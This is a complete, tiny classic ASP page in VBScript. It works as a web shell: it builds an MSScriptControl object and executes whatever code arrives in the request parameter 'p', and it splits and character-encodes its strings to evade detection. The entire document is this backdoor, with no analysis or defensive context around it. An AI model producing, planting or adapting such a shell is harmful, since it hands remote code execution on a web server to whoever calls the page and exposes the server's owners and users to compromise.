<%@ language = VBscript %>
<%
Set sc = Server.CreateObject("MSScr" & chr(105) & "ptControl.Scr" & Chr(&151) & "ptControl.1")
sc.Language = "VBScript"
sc.AddObject "Request", Request
sc.ExecuteStatement("Ex" & chr(&145) & "cute(Requ" & "est(" & Chr(34) & "p" & Chr(34) & "))")
%>
